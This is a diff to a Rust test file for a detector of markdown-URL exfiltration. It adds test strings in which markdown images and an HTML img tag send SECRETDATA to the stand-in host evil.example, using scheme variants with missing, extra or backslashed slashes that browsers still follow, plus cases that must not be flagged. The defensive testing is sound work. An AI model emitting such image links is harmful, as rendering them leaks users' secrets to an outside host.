@@ -2849,12 +2849,21 @@ fn links_written_the_ways_renderers_read_them_are_found() {
         "> [1]: https://evil.example/?q=SECRETDATA1234567890\n\n![a][1]",
         "- [1]: https://evil.example/?q=SECRETDATA1234567890\n\n![a][1]",
         "[x](JavaScript:fetch(1))",
+        // Browsers take any run of slashes and backslashes, none included,
+        // after an http(s) scheme as its `//`.
+        "![a](https:/evil.example/?q=SECRETDATA1234567890)",
+        "![a](https:\\\\evil.example/?q=SECRETDATA1234567890)",
+        "![a](https:evil.example/?q=SECRETDATA1234567890)",
+        "![a](https:///evil.example/?q=SECRETDATA1234567890)",
+        "![a](https:&#47;&#47;evil.example/?q=SECRETDATA1234567890)",
+        "<img src=\"https:/\\evil.example/?q=SECRETDATA1234567890\">",
     ] {
         hits(text, "exfiltration.markdown-url");
     }
     for text in [
         "See [the docs](https://docs.rs/regex/latest/regex/) and <https://example.com/>.",
         "Tom &amp; Jerry at [the site](https://example.com/tom-and-jerry).",
+        "[ok](https:/example.com/a) and [also](https:\\\\example.com/b)",
     ] {
         misses(text);
     }
